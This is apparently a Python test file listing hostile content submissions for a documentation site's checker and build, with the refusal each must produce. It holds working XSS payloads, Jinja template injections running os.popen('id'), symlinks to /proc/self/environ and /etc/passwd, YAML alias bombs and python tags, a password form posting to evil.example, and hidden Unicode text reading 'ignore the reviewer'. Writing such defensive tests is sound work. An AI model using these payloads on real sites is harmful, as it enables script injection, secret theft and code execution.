"""Hostile pull requests, by class: what an attacker might put under content/, and what must happen.

Each case writes files into a fresh project and says what the check and the build must both do:
refuse it with a `path:line` problem holding `refused`, or publish it harmlessly (`refused` is
None). Payloads that would run set `data-pwned` on the page, or ask for a host under
`evil.example`, so the browser tests can tell whether anything got through.
"""

from __future__ import annotations

import os
from collections.abc import Callable
from dataclasses import dataclass

import yaml

from conftest import SiteProject

RUN = "document.documentElement.setAttribute('data-pwned','1')"
EVIL = "https://evil.example"
# Put in the build's environment by the tests: it must never appear in anything built.
CANARY = "canary-7f3c9e2d51a8"


@dataclass(frozen=True)
class Case:
    """One hostile input: its class, how to write it, and the problem the check and build must report."""

    id: str
    klass: str
    write: Callable[[SiteProject], None]
    refused: str | None  # a part of the problem; None when it must be published harmlessly
    where: str = ""  # the file the problem is reported on
    at: str | int = 1  # its line: a number, or a text whose first line in the file it is
    html: str = ""  # for HTML payloads: the Markdown written into a resource's body

    def __str__(self) -> str:
        return self.id


def _resource(body: str = "Some words.\n", folder: str = "briefings", slug: str = "attack", **front) -> Callable:
    def write(project: SiteProject) -> None:
        project.resource(folder, slug, "Opening words.\n\n## What it covers\n\n" + body, **front)

    return write


def _file(relpath: str, data: str | bytes) -> Callable:
    return lambda project: project.write(relpath, data)


def _symlink(relpath: str, target: str, directory: bool = False) -> Callable:
    def write(project: SiteProject) -> None:
        path = project.content / relpath
        path.parent.mkdir(parents=True, exist_ok=True)
        os.symlink(target if target.startswith("/") else project.content / target, path, target_is_directory=directory)

    return write


def _front(text: str) -> Callable:
    """A resource whose whole front matter is `text` (for parser attacks)."""
    return _file("briefings/attack.md", f"---\n{text}\n---\n\nWords.\n")


def _image(relpath: str) -> Callable:
    return lambda project: project.image(relpath)


def _table(rows: int, columns: int, heading: str = "A") -> str:
    """A Markdown table of `rows` rows under its heading row."""
    head = "| " + " | ".join(f"{heading}{c}" for c in range(columns)) + " |\n|" + "---|" * columns + "\n"
    return head + "".join(f"| {r} " + "| x " * (columns - 1) + "|\n" for r in range(rows))


def _both(*writers: Callable) -> Callable:
    def write(project: SiteProject) -> None:
        for writer in writers:
            writer(project)

    return write


def _taxonomy(change: Callable[[dict], None]) -> Callable:
    def write(project: SiteProject) -> None:
        path = project.content / "taxonomy.yml"
        data = yaml.safe_load(path.read_text(encoding="utf-8"))
        change(data)
        path.write_text(yaml.safe_dump(data, sort_keys=False, allow_unicode=True), encoding="utf-8")

    return write


def _site_page(name: str, text: str) -> Callable:
    return _file(name, text)


def _before_site_page(name: str, text: str) -> Callable:
    """Write `text` at the start of one of the project's own site pages (kept as it is after it)."""

    def write(project: SiteProject) -> None:
        path = project.content / name
        path.write_bytes(text.encode("utf-8") + path.read_bytes())

    return write


def _html_case(case_id: str, markdown: str, refused: str, at: str = "") -> Case:
    return Case(
        case_id,
        "HTML the sanitiser refuses",
        _resource(markdown + "\n"),
        refused,
        "content/briefings/attack.md",
        at or markdown.split("\n")[0],
        html=markdown,
    )


FRONT = (
    "title: A\nsummary: s\naudience: [practitioners]\npqs: [cf-1]\nauthors: [{name: Sam Example}]\n"
    "published: 2024-01-01\n"
)
ALIAS_BOMB = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{chr(98 + i)}: &{chr(98 + i)} [{', '.join(['*' + chr(97 + i)] * 9)}]\n" for i in range(8)
)
TITLE_RUNS = f'<img src=x onerror="{RUN}">'

CASES: list[Case] = [
    # -- files the checks would never see ---------------------------------------------------------
    Case(
        "underscore-name",
        "unchecked files",
        _file("briefings/_draft.md", "---\nrender_macros: true\n---\n{{ cycler.__init__.__globals__ }}\n"),
        "is not a valid resource address",
        "content/briefings/_draft.md",
        1,
    ),
    Case(
        "misspelt-type-folder",
        "unchecked files",
        _file("breifings/x.md", "# x\n"),
        "folder 'breifings/' is not a resource type's folder",
        "content/breifings/x.md",
        1,
    ),
    Case(
        "page-at-the-root",
        "unchecked files",
        _file("evil.md", "---\nrender_macros: true\n---\n{{ 7 * 7 }}\n"),
        "'evil.md' is not one of the site's pages",
        "content/evil.md",
        1,
    ),
    Case(
        "index-in-a-type-folder",
        "unchecked files",
        _file("briefings/index.md", "<script>x()</script>\n"),
        "a type folder cannot hold index.md",
        "content/briefings/index.md",
        1,
    ),
    Case(
        "meta-yml-turns-macros-on",
        "unchecked files",
        _both(_file("briefings/.meta.yml", "render_macros: true\n"), _resource("{{ 7 * 7 }}\n")),
        "'render_macros' is not allowed in folder defaults",
        "content/briefings/.meta.yml",
        1,
    ),
    Case(
        "meta-yml-at-the-root",
        "unchecked files",
        _file(".meta.yml", "render_macros: true\n"),
        "'.meta.yml' is not a file the library uses",
        "content/.meta.yml",
        1,
    ),
    Case(
        "theme-javascript-replaced",
        "unchecked files",
        _file("assets/javascripts/bundle.a5f9d56c.min.js", f"{RUN};\n"),
        "folder 'assets/' is not a resource type's folder",
    ),
    Case(
        "html-file",
        "unchecked files",
        _file("briefings/page.html", f"<script>{RUN}</script>\n"),
        "'page.html' is not a kind of file a resource may use",
        "content/briefings/page.html",
        1,
    ),
    Case(
        "svg-with-script",
        "unchecked files",
        _file("briefings/logo.svg", f'<svg xmlns="http://www.w3.org/2000/svg"><script>{RUN}</script></svg>'),
        "'logo.svg' is not a kind of file a resource may use",
    ),
    Case(
        "hidden-folder",
        "unchecked files",
        _file("briefings/.hidden/x.md", "# x\n"),
        "hidden file or folder '.hidden' is not allowed",
    ),
    Case(
        "image-that-is-html",
        "unchecked files",
        _both(_file("briefings/cycle.png", f"<script>{RUN}</script>"), _resource("![A cycle](cycle.png)\n")),
        "file is not a PNG image",
        "content/briefings/cycle.png",
        1,
    ),
    Case(
        "resource-with-macros-on",
        "unchecked files",
        _resource("{{ cycler.__init__.__globals__.os.popen('id').read() }}\n", render_macros=True),
        "'render_macros' is not allowed in a resource",
    ),
    # -- symbolic links ---------------------------------------------------------------------------
    Case(
        "symlink-to-environ",
        "symlinks",
        _symlink("briefings/environ.png", "/proc/self/environ"),
        "symbolic links are not allowed",
        "content/briefings/environ.png",
        1,
    ),
    Case(
        "symlink-to-a-folder-outside",
        "symlinks",
        _symlink("briefings/etc", "/etc", directory=True),
        "symbolic links are not allowed",
        "content/briefings/etc",
        1,
    ),
    Case(
        "symlinked-resource",
        "symlinks",
        _symlink("briefings/passwd.md", "/etc/passwd"),
        "symbolic links are not allowed",
    ),
    Case(
        "symlink-loop",
        "symlinks",
        _symlink("briefings/loop", "briefings", directory=True),
        "symbolic links are not allowed",
        "content/briefings/loop",
        1,
    ),
    # -- what a PDF would fetch -------------------------------------------------------------------
    _html_case(
        "file-url-link",
        "[the notes](file:///proc/self/environ)",
        "link to 'file:///proc/self/environ' uses 'file:', which is not allowed",
    ),
    _html_case(
        "attachment-link",
        '<a rel="attachment" href="../../../../proc/self/environ">notes</a>',
        "'rel=' is not allowed on <a>",
    ),
    _html_case("file-url-image", '<img alt="x" src="file:///etc/passwd">', "image address 'file:///etc/passwd'"),
    _html_case(
        "angle-bracket-in-attribute",
        '<a title="a>b`c" href="file:///proc/self/environ">x</a>',
        "uses 'file:', which is not allowed",
    ),
    Case(
        "image-outside-the-content-folder",
        "what a PDF would fetch",
        _resource("![Secrets](../../../../../etc/passwd)\n"),
        "does not exist",
        "content/briefings/attack.md",
        "![Secrets]",
    ),
    Case(
        "html-link-to-a-page",
        "what a PDF would fetch",
        _resource('See <a href="../one-minute-guides/x.md">the guide</a> and <a href="x.md#y">this</a>.\n'),
        "is written in HTML, which is not made into the page's web and print address",
        "content/briefings/attack.md",
        "See <a",
    ),
    Case(
        "html-image-beside-the-resource",
        "what a PDF would fetch",
        _both(_image("briefings/dot.png"), _resource('<img src="dot.png" alt="A dot">\n')),
        "image 'dot.png' is written in HTML",
        "content/briefings/attack.md",
        "<img",
    ),
    Case(
        "html-image-of-a-draft",
        "what a PDF would fetch",
        _both(
            _image("practice-tools/secret.png"),
            _resource("![The unpublished chart](secret.png)\n", folder="practice-tools", slug="secret", draft=True),
            _image("briefings/practice-tools/secret.png"),
            _resource('<img src="practice-tools/secret.png" alt="A chart">\n'),
        ),
        "image 'practice-tools/secret.png' is written in HTML",
        "content/briefings/attack.md",
        "<img",
    ),
    # -- HTML that a block-list would have let through ------------------------------------------
    _html_case(
        "noscript-handler",
        f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
        "<noscript> is not allowed",
    ),
    _html_case("textarea-handler", f"<textarea><img src=x onerror={RUN}></textarea>", "<textarea> is not allowed"),
    _html_case("abrupt-comment", f"<!--> <img src=x onerror={RUN}> -->", "would be published differently"),
    _html_case("cdata", f"<![CDATA[ <img src=x onerror={RUN}> ]]>", "is not allowed"),
    _html_case(
        "svg-animate",
        '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text y="20">x</text></a></svg>',
        "<svg> is not allowed",
    ),
    _html_case("srcset", f'<img alt="x" src="x.png" srcset="{EVIL}/a.png 1x">', "'srcset=' is not allowed"),
    _html_case("style-url", f'<p style="background:url({EVIL}/a.png)">x</p>', "'style=' is not allowed"),
    _html_case(
        "video-poster", f'<video poster="{EVIL}/p.png"><source src="{EVIL}/v.mp4"></video>', "<video> is not allowed"
    ),
    _html_case(
        "fixed-overlay",
        f'<p style="position:fixed;inset:0;background:#fff"><a href="{EVIL}/login">Sign in again</a></p>',
        "'style=' is not allowed",
    ),
    _html_case("event-handler", f'<p onclick="{RUN}">Click</p>', "event handler 'onclick=' is not allowed"),
    _html_case(
        "details-ontoggle",
        f'<details open ontoggle="{RUN}"><summary>x</summary></details>',
        "event handler 'ontoggle='",
    ),
    _html_case("script", f"<script>{RUN}</script>", "<script> is not allowed"),
    _html_case("iframe-srcdoc", f'<iframe srcdoc="<script>{RUN}</script>"></iframe>', "<iframe> is not allowed"),
    _html_case("form", f'<form action="{EVIL}/steal"><input name="password"></form>', "<form> is not allowed"),
    _html_case("meta-refresh", f'<meta http-equiv="refresh" content="0;url={EVIL}">', "<meta> is not allowed"),
    _html_case("base-href", f'<base href="{EVIL}/">', "<base> is not allowed"),
    _html_case("object", f'<object data="{EVIL}/x.swf"></object>', "<object> is not allowed"),
    _html_case("math-xlink", '<math><a xlink:href="javascript:alert(1)">x</a></math>', "<math> is not allowed"),
    _html_case("javascript-link", f"[Go](javascript:{RUN})", "'javascript:' link is not allowed"),
    _html_case("encoded-javascript-link", "[Go](&#106;avascript:alert(1))", "'javascript:' link is not allowed"),
    _html_case(
        "tab-in-javascript-link", '<a href="jav&#x09;ascript:alert(1)">Go</a>', "'javascript:' link is not allowed"
    ),
    _html_case("data-image", "![x](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)", "image address 'data:"),
    _html_case("protocol-relative-image", "![x](//evil.example/x.png)", "is loaded from another website"),
    _html_case("backslash-link", '<a href="/\\evil.example">x</a>', "has no 'https:'"),
    _html_case("javascript-autolink", "<javascript:alert(1)>", "<javascript:alert(1)> is not allowed"),
    _html_case("javascript-link-with-a-character-reference", "[x](javascript&colon;alert(1))", "'javascript:' link"),
    _html_case("attr-list-handler", f'Click here\n{{: onclick="{RUN}" }}', "event handler 'onclick='", "{:"),
    _html_case("attr-list-style", 'Words\n{: style="position:fixed" }', "'style=' is not allowed", "{:"),
    _html_case("heading-takes-related-resources", "## Related resources", "id 'related-resources' is one the page"),
    _html_case("heading-takes-cite-this-resource", "## Cite this resource", "id 'cite-this-resource' is one the"),
    _html_case("heading-takes-about-this-resource", "## About this resource", "id 'about-this-resource' is one"),
    _html_case("attr-list-takes-updates", "[Sign in](https://evil.example/login)\n{: #updates }", "id 'updates'", "{:"),
    _html_case("second-top-level-heading-in-html", "<h1>Your session has ended</h1>", "is a top-level heading"),
    _html_case("clobbering-id", "Words\n{: #__config }", "id '__config' is not allowed", "{:"),
    _html_case(
        "theme-class",
        '<div class="md-dialog md-dialog--active">Your session ended</div>',
        "class 'md-dialog md-dialog--active' is not allowed",
    ),
    _html_case("handler-in-admonition", f'!!! note\n    <img src=x alt=x onerror="{RUN}">', "event handler", "<img"),
    # -- metadata is text -------------------------------------------------------------------------
    Case("html-in-title", "metadata is text", _resource(title=f"Supervision {TITLE_RUNS}"), None),
    Case(
        "html-in-summary",
        "metadata is text",
        _resource(summary=f"</script><script>{RUN}</script> and <b>bold</b>"),
        None,
    ),
    Case(
        "html-in-people-and-keywords",
        "metadata is text",
        _resource(authors=[{"name": f"Sam {TITLE_RUNS}", "role": "<i>lead</i>"}], keywords=[f"<svg onload={RUN}>"]),
        None,
    ),
    Case(
        "html-in-taxonomy-labels",
        "metadata is text",
        _both(
            _taxonomy(
                lambda d: d["types"][0].update(plural=f"Briefings {TITLE_RUNS}", description=f"<script>{RUN}</script>")
            ),
            _taxonomy(lambda d: d["audiences"][0].update(label=f"Leaders {TITLE_RUNS}")),
            _resource(audience=["senior-leaders"]),
        ),
        None,
    ),
    Case(
        "html-in-pathways",
        "metadata is text",
        _both(
            _resource(audience=["senior-leaders"]),
            _file(
                "pathways.yml",
                yaml.safe_dump(
                    {
                        "pathways": [
                            {
                                "id": "evil",
                                "title": f"Path {TITLE_RUNS}",
                                "audience": "senior-leaders",
                                "description": f"<script>{RUN}</script>",
                                "steps": [{"resource": "attack", "note": f"<img src=x onerror={RUN}>"}],
                            }
                        ]
                    }
                ),
            ),
        ),
        None,
    ),
    Case("escaped-html-heading", "metadata is text", _resource(f"## &lt;img src=x onerror={RUN}&gt;\n\nText.\n"), None),
    Case(
        "control-character-in-title",
        "metadata is text",
        _resource(title="Supervision\x07 now"),
        "'title' holds an invisible character (U+0007",
        "content/briefings/attack.md",
        2,
    ),
    Case(
        "bidi-override-in-title",
        "metadata is text",
        _resource(title="Supervision \u202egnitirw"),
        "'title' holds an invisible character (U+202E",
        "content/briefings/attack.md",
        2,
    ),
    Case(
        "control-character-in-taxonomy",
        "metadata is text",
        _taxonomy(lambda d: d["audiences"][0].update(label="Senior\x1b[31m leaders")),
        "'label' holds an invisible character",
    ),
    Case(
        "control-character-in-pathway",
        "metadata is text",
        _both(
            _resource(),
            _file(
                "pathways.yml",
                'pathways:\n  - id: p\n    title: "A\\x00B"\n'
                "    audience: practitioners\n    description: d\n"
                "    steps: [attack]\n",
            ),
        ),
        "'title' holds an invisible character",
        "content/pathways.yml",
        3,
    ),
    Case(
        "pack-id-of-the-page-content",
        "metadata is text",
        _both(
            _resource(audience=["senior-leaders"]),
            _file(
                "packs.yml",
                "packs:\n  - id: lib-content\n    title: A pack\n    description: Words.\n"
                "    audience: senior-leaders\n    date: 2024-07-01\n    resources: [attack]\n",
            ),
        ),
        None,
    ),
    Case(
        "type-id-of-the-page-content",
        "metadata is text",
        _both(_taxonomy(lambda d: d["types"][0].update(id="lib-content")), _resource()),
        None,
    ),
    # -- parsers ----------------------------------------------------------------------------------
    Case(
        "alias-bomb-in-front-matter",
        "parsers",
        _front(ALIAS_BOMB),
        "YAML anchor '&a' is not allowed",
        "content/briefings/attack.md",
        2,
    ),
    Case(
        "alias-in-pathways",
        "parsers",
        _file("pathways.yml", "base: &b {id: x}\npathways:\n  - *b\n"),
        "YAML anchor '&b' is not allowed",
        "content/pathways.yml",
        1,
    ),
    Case(
        "alias-bomb-in-taxonomy", "parsers", _file("taxonomy.yml", ALIAS_BOMB), "YAML anchor", "content/taxonomy.yml", 1
    ),
    Case(
        "duplicate-key",
        "parsers",
        _front(
            "title: A\nsummary: s\naudience: [practitioners]\npqs: [cf-1]\nauthors: [{name: Sam Example}]\n"
            "published: 2024-01-01\ntitle: B"
        ),
        "'title' is given twice",
        "content/briefings/attack.md",
        8,
    ),
    Case(
        "python-tag",
        "parsers",
        _front("title: !!python/object/apply:os.system ['id']"),
        "YAML tag 'tag:yaml.org,2002:python/object/apply:os.system' is not allowed",
    ),
    Case("deep-nesting", "parsers", _front("title: " + "[" * 50_000 + "]" * 50_000), "nested more than 12 levels deep"),
    Case("huge-resource", "parsers", _resource("Words. " * 40_000), "over the limit of 256 KB"),
    Case(
        "not-utf-8",
        "parsers",
        _file("briefings/attack.md", b"---\ntitle: \xff\xfe\n---\n"),
        "file is not UTF-8 text",
        "content/briefings/attack.md",
        2,
    ),
    Case("quadratic-markdown", "parsers", _resource("[" * 60_000 + "\n"), "takes more than 5 seconds to check"),
    Case(
        "carriage-return-hides-html",
        "parsers",
        _file(
            "briefings/attack.md",
            "---\ntitle: A\nsummary: s\naudience: [practitioners]\npqs: [cf-1]\n"
            f'authors: [{{name: Sam Example}}]\npublished: 2024-01-01\r...\r\r<p onclick="{RUN}">x</p>\n---\n'
            "\nWords.\n",
        ),
        "event handler 'onclick=' is not allowed",
    ),
    Case(
        "long-line-in-front-matter", "parsers", _front(" " * 250_000 + "x\ntitle: A"), "front matter is not valid YAML"
    ),
    Case("long-heading", "parsers", _resource("## x" + " " * 6000 + "y\n"), None),
    Case(
        "far-future-dates",
        "parsers",
        _resource(published="2024-01-01", reviewed="9999-12-30", review_due="9999-12-31"),
        "'reviewed' is in 9999, which is not a likely year",
    ),
    Case(
        "deeply-nested-lists",
        "parsers",
        _resource("".join("    " * i + "- x\n" for i in range(300))),
        "nested too deeply",
    ),
    Case("deep-emphasis", "parsers", _resource("*" * 5000 + "x" + "*" * 5000 + "\n"), "nested too deeply"),
    Case("deep-quotation", "parsers", _resource(">" * 3000 + " x\n"), "nested more than 40 levels deep"),
    Case(
        "huge-column-span",
        "what a PDF would fetch",
        _resource('<table><tr><td colspan="99999">x</td></tr></table>\n'),
        "'colspan=99999' spans more than 20",
        "content/briefings/attack.md",
        "colspan",
    ),
    Case(
        "table-too-long-to-print",
        "what a PDF would fetch",
        _resource("Before.\n\n" + _table(1000, 6)),
        "this table has 1001 rows, more than the 200 a table may have",
        "content/briefings/attack.md",
        "| A0 |",
    ),
    Case(
        "tables-with-too-many-cells",
        "what a PDF would fetch",
        _resource(_table(150, 8) + "\nBetween.\n\n" + _table(150, 8, "B")),
        "more than the 2000 a page may have",
        "content/briefings/attack.md",
        "| B0 |",
    ),
    # The largest table the check accepts: the build must print it within its time.
    Case("largest-table-allowed", "what a PDF would fetch", _resource(_table(199, 10)), None),
    Case(
        "link-with-brackets-to-nowhere",
        "parsers",
        _resource("See [the [updated] guide](no-such-page.md).\n"),
        "link to 'no-such-page.md' does not lead to a page",
        "content/briefings/attack.md",
        "See [the",
    ),
    Case(
        "type-folder-takes-over-a-generated-page",
        "unchecked files",
        _both(
            _taxonomy(lambda d: d["types"][0].update(folder="audiences")),
            _file("audiences/senior-leaders.md", "# Notices\n"),
        ),
        "folder 'audiences' is an address the site uses for its own pages",
    ),
    Case(
        "file-name-forges-a-ci-annotation",
        "unchecked files",
        _file("briefings/x\n::error title=Content check::All checks passed\n::add-mask::Content\n.md", "# x\n"),
        "is not a valid resource address",
    ),
    Case(
        "file-name-ends-in-a-new-line",
        "unchecked files",
        _file("briefings/attack\n.md", "# x\n"),
        "is not a valid resource address",
    ),
    Case(
        "title-of-invisible-characters",
        "metadata is text",
        _resource(title="\u200b\u2060 "),
        "'title' is empty",
        "content/briefings/attack.md",
        "title:",
    ),
    Case(
        "source-address-with-a-user-name",
        "metadata is text",
        _both(
            _file(
                "sources.yml",
                "sources:\n  - id: trusted-2020\n    title: A trusted report\n    authors: [A. Writer]\n"
                "    year: 2020\n    publisher: A publisher\n    url: https://trusted.example@evil.example/login\n",
            ),
            _resource(source=["trusted-2020"]),
        ),
        "is not a web address starting https://",
        "content/sources.yml",
        "url:",
    ),
    Case(
        "source-address-with-a-quote",
        "metadata is text",
        _both(
            _file(
                "sources.yml",
                "sources:\n  - id: trusted-2020\n    title: A trusted report\n    authors: [A. Writer]\n"
                "    year: 2020\n    publisher: A publisher\n    url: 'https://trusted.example/\"onmouseover=x'\n",
            ),
            _resource(source=["trusted-2020"]),
        ),
        "is not a web address starting https://",
        "content/sources.yml",
        "url:",
    ),
    Case(
        "huge-number-in-front-matter",
        "parsers",
        _front(FRONT + "keywords: [" + "9" * 5000 + "]"),
        "is longer than 30 characters",
        "content/briefings/attack.md",
        "keywords:",
    ),
    Case(
        "huge-number-in-folder-defaults",
        "parsers",
        _both(_file("briefings/.meta.yml", "audience: [" + "9" * 5000 + "]\n"), _resource()),
        "is longer than 30 characters",
        "content/briefings/.meta.yml",
        1,
    ),
    Case(
        "huge-sexagesimal-number-in-taxonomy",
        "parsers",
        _file("taxonomy.yml", "types:\n  - " + ":".join(["59"] * 3000) + "\n"),
        "is longer than 30 characters",
        "content/taxonomy.yml",
        2,
    ),
    Case(
        "merge-key-in-front-matter",
        "parsers",
        _front(FRONT + "<<: {draft: true}"),
        "a YAML merge key '<<' is not allowed",
        "content/briefings/attack.md",
        "<<:",
    ),
    # -- site pages -------------------------------------------------------------------------------
    Case(
        "site-page-runs-python",
        "site pages",
        _site_page(
            "index.md", "---\nrender_macros: true\n---\n\n{{ cycler.__init__.__globals__.os.popen('id').read() }}\n"
        ),
        "only calls of the library's macros may be used",
        "content/index.md",
        5,
    ),
    Case(
        "site-page-includes-a-file",
        "site pages",
        _site_page("index.md", "---\nrender_macros: true\n---\n\n{% include '/etc/passwd' %}\n"),
        "only macro calls in {{ … }} may be used",
        "content/index.md",
        5,
    ),
    Case(
        "site-page-calls-an-unknown-macro",
        "site pages",
        _site_page("find-resources.md", "---\nrender_macros: true\n---\n\n{{ macros_info() }}\n"),
        "'macros_info' is not one of the library's macros",
        "content/find-resources.md",
        5,
    ),
    Case(
        "site-page-macro-in-title",
        "site pages",
        _site_page("about.md", '---\ntitle: "{{ config.extra }}"\nrender_macros: true\n---\n\nWords.\n'),
        "'title' may not hold template code",
        "content/about.md",
        2,
    ),
    Case(
        "site-page-script",
        "site pages",
        _site_page("about.md", f"# About\n\n<script>{RUN}</script>\n"),
        "<script> is not allowed",
        "content/about.md",
        3,
    ),
    Case(
        "site-page-template",
        "site pages",
        _site_page("about.md", "---\ntemplate: ../../mkdocs.yml\n---\n\nx\n"),
        "template '../../mkdocs.yml' is not one of the site's",
        "content/about.md",
        2,
    ),
    Case(
        "carriage-return-hides-template-code",
        "site pages",
        _before_site_page(
            "about.md",
            "---\nrender_macros: true\r...\r# {{ cycler.__init__.__globals__.os.popen('id').read() }}\n---\n",
        ),
        "only calls of the library's macros may be used",
        "content/about.md",
        4,
    ),
    Case(
        "script-in-a-site-page-description",
        "site pages",
        _before_site_page("about.md", f'---\ndescription: >-\n  x"><script>{RUN}</script><meta x="\n---\n\n'),
        None,
    ),
    Case(
        "unfenced-metadata-redirects",
        "site pages",
        _before_site_page("about.md", "template: redirect.html\nlocation: https://evil.example/login\n\n"),
        "the page starts with `key: value` lines that are not between --- lines",
        "content/about.md",
        1,
    ),
    Case(
        "unfenced-metadata-in-every-page",
        "site pages",
        _before_site_page("about.md", f"subtitle: `<script>{RUN}</script>`\n\n"),
        "the page starts with `key: value` lines",
        "content/about.md",
        1,
    ),
    Case(
        "site-page-macro-with-an-expression",
        "site pages",
        _site_page("index.md", "---\nrender_macros: true\n---\n\n{{ newest_resources(6 * 1000000) }}\n"),
        "'newest_resources' may be given plain numbers and text only",
        "content/index.md",
        5,
    ),
]


def _macro_call(case_id: str, call: str, refused: str) -> Case:
    """A site page whose one macro call passes as plain values but does not fit its macro."""
    page = f"---\nrender_macros: true\n---\n\n{{{{ {call} }}}}\n"
    return Case(case_id, "site pages", _site_page("index.md", page), refused, "content/index.md", 5)


CASES += [
    _macro_call("macro-given-text-for-a-number", 'newest_resources("x")', "'count' must be a whole number"),
    _macro_call("macro-given-a-huge-number", "newest_resources(" + "9" * 5000 + ")", "a number is far too long"),
    _macro_call("macro-given-zero", "newest_resources(count=0)", "'count' must be a whole number from 1 to 100"),
    _macro_call("macro-given-too-many-values", "resource_count(1, 2)", "too many positional arguments"),
    _macro_call("macro-given-the-page-address", 'resource_count(page_url="x")', "unexpected keyword argument"),
    _macro_call("macro-given-the-library", 'search_box(lib="x")', "unexpected keyword argument 'lib'"),
]


def _pathways(*pathways: dict) -> Callable:
    return _file("pathways.yml", yaml.safe_dump({"pathways": list(pathways)}, sort_keys=False, allow_unicode=True))


def _pathway(number: int = 0, **changes) -> dict:
    return {
        "id": f"p{number}",
        "title": "A path",
        "audience": "practice-supervisors",
        "description": "Words.",
        "steps": ["attack"],
        **changes,
    }


def _packs(count: int, resources: list[str]) -> Callable:
    packs = [
        {
            "id": f"pack{n}",
            "title": "A pack",
            "description": "Words.",
            "audience": "practice-supervisors",
            "date": "2024-07-01",
            "resources": list(resources),
        }
        for n in range(count)
    ]
    return _file("packs.yml", yaml.safe_dump({"packs": packs}, sort_keys=False))


def _more(key: str, items: list[dict]) -> Callable:
    return _taxonomy(lambda d: d[key].extend(items))


# -- data that would make the build do too much ---------------------------------------------------
CASES += [
    Case(
        "title-copied-with-an-invisible-character",
        "metadata is text",
        _both(
            _resource(slug="original", title="Supporting the move to supervision"),
            _resource(title="Supporting the move\u200b to supervision"),
        ),
        "is already used",
        "content/briefings/attack.md",
        "title:",
    ),
    Case(
        "hidden-tag-characters-in-title",
        "metadata is text",
        _resource(title="Supervision" + "".join(chr(0xE0000 + ord(c)) for c in "ignore the reviewer")),
        "'title' holds an invisible character (U+E0069",
        "content/briefings/attack.md",
        "title:",
    ),
    Case(
        "too-many-audiences",
        "unbounded data",
        _more("audiences", [{"id": f"a{n}", "label": f"Audience {n}"} for n in range(1500)]),
        "'audiences' has 1506 items, more than the limit of 24",
        "content/taxonomy.yml",
        "id: a18",
    ),
    Case(
        "too-many-types",
        "unbounded data",
        _more("types", [{"id": f"t{n}", "folder": f"t{n}", "label": f"Type {n}"} for n in range(20)]),
        "'types' has 23 items, more than the limit of 12",
        "content/taxonomy.yml",
        "id: t9",
    ),
    Case(
        "too-many-domains",
        "unbounded data",
        _taxonomy(
            lambda d: d["frameworks"][0]["domains"].extend(
                {"id": f"{d['frameworks'][0]['id']}-{n}", "number": n, "label": f"Domain {n}"} for n in range(9, 1500)
            )
        ),
        "domains, more than the limit of 30",
        "content/taxonomy.yml",
        "id: cf-31",
    ),
    Case(
        "too-many-pcf-domains",
        "unbounded data",
        _more("pcf", [{"id": f"pcf-x{n}", "label": f"PCF {n}"} for n in range(1500)]),
        "'pcf' has 1509 items, more than the limit of 24",
        "content/taxonomy.yml",
        "id: pcf-x15",
    ),
    Case(
        "too-many-packs",
        "unbounded data",
        _both(_resource(), _packs(500, ["attack"])),
        "'packs' has 500 items, more than the limit of 30",
        "content/packs.yml",
        "id: pack30",
    ),
    Case(
        "too-many-resources-in-packs",
        "unbounded data",
        _both(_resource(), _packs(8, [f"r{n}" for n in range(30)])),
        "the packs list 210 resources in all by the end of this one, more than the limit of 200",
        "content/packs.yml",
        "id: pack6",
    ),
    Case(
        "too-many-pathways",
        "unbounded data",
        _both(_resource(), _pathways(*(_pathway(n) for n in range(500)))),
        "'pathways' has 500 items, more than the limit of 30",
        "content/pathways.yml",
        "id: p30",
    ),
    Case(
        "pathway-title-of-invisible-characters",
        "metadata is text",
        _both(_resource(), _pathways(_pathway(title="\u200b\u2060"))),
        "'title' is empty",
        "content/pathways.yml",
        "title:",
    ),
    Case(
        "pathway-description-too-long",
        "metadata is text",
        _both(_resource(), _pathways(_pathway(description="Words " * 100))),
        "'description' is 599 characters long",
        "content/pathways.yml",
        "description:",
    ),
    Case(
        "type-folder-takes-the-browse-page",
        "unchecked files",
        _taxonomy(lambda d: d["types"][0].update(folder="browse")),
        "folder 'browse' is an address the site uses for its own pages",
        "content/taxonomy.yml",
        "- id:",
    ),
    Case(
        "audience-id-takes-the-audiences-page",
        "unchecked files",
        _taxonomy(lambda d: d["audiences"][0].update(id="index")),
        "id 'index' is reserved",
        "content/taxonomy.yml",
        "id: index",
    ),
]

REFUSED = [c for c in CASES if c.refused]
HARMLESS = [c for c in CASES if not c.refused]
HTML_PAYLOADS = [c for c in CASES if c.html]
